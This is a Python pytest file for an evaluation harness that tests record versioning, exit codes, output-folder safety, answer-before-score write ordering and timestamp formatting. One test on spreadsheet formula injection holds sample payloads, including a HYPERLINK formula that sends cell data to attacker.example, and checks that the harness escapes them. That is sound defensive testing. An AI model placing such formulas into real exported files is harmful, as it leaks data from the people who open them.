"""Issue 16: the run record is typed and versioned; readers go through its models."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT, replay_run, run_cli

from harness.record import schema


def test_published_schema_is_generated_from_the_models() -> None:
    published = json.loads((ROOT / "docs" / "record.schema.json").read_text(encoding="utf-8"))
    assert published == json.loads(json.dumps(schema())), "run `python -m harness.record > docs/record.schema.json`"


def test_a_record_without_a_version_is_read_and_a_newer_one_refused(tmp_path: Path) -> None:
    run = replay_run(tmp_path)
    manifest = json.loads((run / "manifest.json").read_text())
    assert manifest["format_version"] == 3
    old = tmp_path / "old"
    shutil.copytree(run, old)
    del manifest["format_version"]  # as written before versions were stamped
    (old / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    res = run_cli("report", str(old), "--format", "json")
    assert res.returncode == 0, res.stderr
    assert next(r for r in json.loads(res.stdout)["rows"] if r["metric"] == "accuracy")["value"] == 0.75
    manifest["format_version"] = 99
    (old / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    res = run_cli("report", str(old))
    assert res.returncode == 2 and "written by a newer avec-harness" in res.stderr


def test_a_line_that_is_not_a_record_line_is_named(tmp_path: Path) -> None:
    run = replay_run(tmp_path)
    with (run / "scores.jsonl").open("a", encoding="utf-8") as fh:
        fh.write('{"task": "t", "unexpected": true}\n')
    res = run_cli("report", str(run))
    assert res.returncode == 2, res.stderr
    assert "scores.jsonl:5: not a ScoreLine line" in res.stderr and "Traceback" not in res.stderr


def test_an_unexpected_error_exits_3_never_1(tmp_path: Path) -> None:
    """A bug (here a scorer plugin whose report hook raises) is exit 3 with a message: CI
    reads 1 as a regression."""
    run = replay_run(tmp_path)
    code = ("import sys\n"
            "from harness.scoring.qa import ExactMatch\n"
            "def broken(*args): raise ZeroDivisionError('a bug')\n"
            "ExactMatch.summarize = classmethod(broken)\n"
            "from harness.cli import main\n"
            "sys.argv = ['harness', 'report', sys.argv[1]]\n"
            "main()\n")
    res = subprocess.run([sys.executable, "-c", code, str(run)], capture_output=True, text=True, timeout=120)
    assert res.returncode == 3, res.stderr
    assert "error: unexpected ZeroDivisionError: a bug" in res.stderr


def test_load_run_and_csv_tables_hold_the_record(tmp_path: Path) -> None:
    import pandas as pd

    import harness
    from harness.errors import ConfigError

    run = replay_run(tmp_path)
    loaded = harness.load_run(run)
    card = json.loads((run / "scorecard.json").read_text())
    responses = loaded.responses()
    assert len(responses) == sum(1 for _ in (run / "responses.jsonl").open())
    assert set(loaded.items()["item_id"]) == set(responses["item_id"])
    res = run_cli("report", str(run), "--format", "csv", "--out", str(tmp_path / "tables"))
    assert res.returncode == 0, res.stderr
    metrics = pd.read_csv(tmp_path / "tables" / "metrics.csv")
    accuracy = metrics[metrics.metric == "accuracy"].iloc[0]
    expected = next(r for r in card["rows"] if r["metric"] == "accuracy")
    assert accuracy["value"] == expected["value"] and accuracy["n"] == expected["n"]
    scores = pd.read_csv(tmp_path / "tables" / "scores.csv")
    assert scores["correct"].mean() == expected["value"]
    # written again into its own folder; never into one that holds other files (a user's own
    # responses.csv was overwritten)
    assert run_cli("report", str(run), "--format", "csv", "--out", str(tmp_path / "tables")).returncode == 0
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "responses.csv").write_text("my own notes\n", encoding="utf-8")
    (mine / "budget.xlsx").write_bytes(b"PK")
    for fmt in ("csv", "parquet"):
        res = run_cli("report", str(run), "--format", fmt, "--out", str(mine))
        assert res.returncode == 2, res.stderr
        assert f"{mine}: --out: holds files this command did not write (budget.xlsx, responses.csv)" in res.stderr
    assert (mine / "responses.csv").read_text(encoding="utf-8") == "my own notes\n"
    assert sorted(p.name for p in mine.iterdir()) == ["budget.xlsx", "responses.csv"]
    with pytest.raises(ConfigError):
        harness.load_run(tmp_path / "not-a-run")


def test_a_run_copied_without_its_scores_is_a_damaged_record(tmp_path: Path) -> None:
    """A run folder shared without scores.jsonl gave a scorecard with no figure, and exit 0."""
    run = replay_run(tmp_path)
    (run / "scores.jsonl").unlink()
    for command in (["report", str(run)], ["report", str(run), "--format", "html"]):
        res = run_cli(*command)
        assert res.returncode == 2, res.stdout
        assert "responses.jsonl holds answers but scores.jsonl is missing" in res.stderr, res.stderr


def test_csv_tables_do_not_let_a_spreadsheet_run_an_answer(tmp_path: Path) -> None:
    """A model's answer is untrusted: '=HYPERLINK(...)' written as is into responses.csv ran
    as a formula when a committee opened the table in a spreadsheet."""
    import pandas as pd

    run = replay_run(tmp_path)
    answers = ['=HYPERLINK("http://attacker.example/?"&A1,"details")', "@SUM(1+1)", "+1+1", "-2+3",
               "- A, then B", "A", "The answer is B.", "A = B + 1"]
    lines = []
    for i, line in enumerate((run / "responses.jsonl").read_text().splitlines() * 2):
        rec = json.loads(line)
        rec["item_id"], rec["output"] = f"x{i}", answers[i]
        lines.append(json.dumps(rec))
    (run / "responses.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    for fmt in ("csv", "parquet"):
        res = run_cli("report", str(run), "--format", fmt, "--out", str(tmp_path / fmt))
        assert res.returncode == 0, res.stderr
    written = pd.read_csv(tmp_path / "csv" / "responses.csv", keep_default_na=False)["output"].tolist()
    assert written == ["'" + a for a in answers[:5]] + answers[5:]
    assert pd.read_parquet(tmp_path / "parquet" / "responses.parquet")["output"].tolist() == answers
    latency = pd.read_csv(tmp_path / "csv" / "metrics.csv")["value"]
    assert latency.dtype.kind == "f"  # numbers stay numbers


def test_a_score_never_reaches_the_disk_before_its_answer(tmp_path: Path) -> None:
    """Answers that cost nothing to redo (a replay's) and scores wait in memory; a crash at
    any moment must not leave a score whose answer is not on disk, since a resume takes a
    scored item as done and its answer would be missing from the record for good."""
    from harness.store import RESPONSES, SCORES, RunWriter

    def on_disk(name: str) -> set[str]:
        path = tmp_path / "run" / name
        if not path.exists():
            return set()
        return {json.loads(line)["item_id"] for line in path.read_text().splitlines()}

    writer = RunWriter(tmp_path / "run")
    sizes, checks = None, 0
    for i in range(3000):
        writer.append(RESPONSES, {"item_id": f"i{i}", "output": "The answer is B."}, flush=False)
        writer.append(SCORES, {"item_id": f"i{i}", "details": {"extracted": "B", "note": "x" * (i % 200)}},
                      flush=False)
        now = tuple((tmp_path / "run" / n).stat().st_size if (tmp_path / "run" / n).exists() else 0
                    for n in (RESPONSES, SCORES))
        if now != sizes:  # something reached the disk
            sizes, checks = now, checks + 1
            assert on_disk(SCORES) <= on_disk(RESPONSES), f"after item {i}"
    assert checks > 5, "nothing was written before close: lines wait in memory without bound"
    writer.close()
    assert on_disk(SCORES) == on_disk(RESPONSES) == {f"i{i}" for i in range(3000)}


def test_record_times_are_written_as_datetime_writes_them(monkeypatch) -> None:
    """The record's times are formatted a second at a time for speed; the text must be the
    one `datetime.now(UTC).isoformat()` gives, whole microseconds and none alike."""
    import random
    from datetime import UTC, datetime, timedelta

    from harness import store

    clock = store._Clock()
    epoch = datetime(1970, 1, 1, tzinfo=UTC)
    rng = random.Random(11)
    instants = [1_795_000_000 * 10**9 + rng.randrange(10**9) for _ in range(2000)]
    instants += [1_795_000_001 * 10**9, 1_795_000_001 * 10**9 + 999, 1_795_000_001 * 10**9 + 1000]
    for ns in sorted(instants) + instants:  # the same second again, and seconds out of order
        monkeypatch.setattr(store.time, "time_ns", lambda ns=ns: ns)
        assert clock() == (epoch + timedelta(microseconds=ns // 1000)).isoformat(), ns
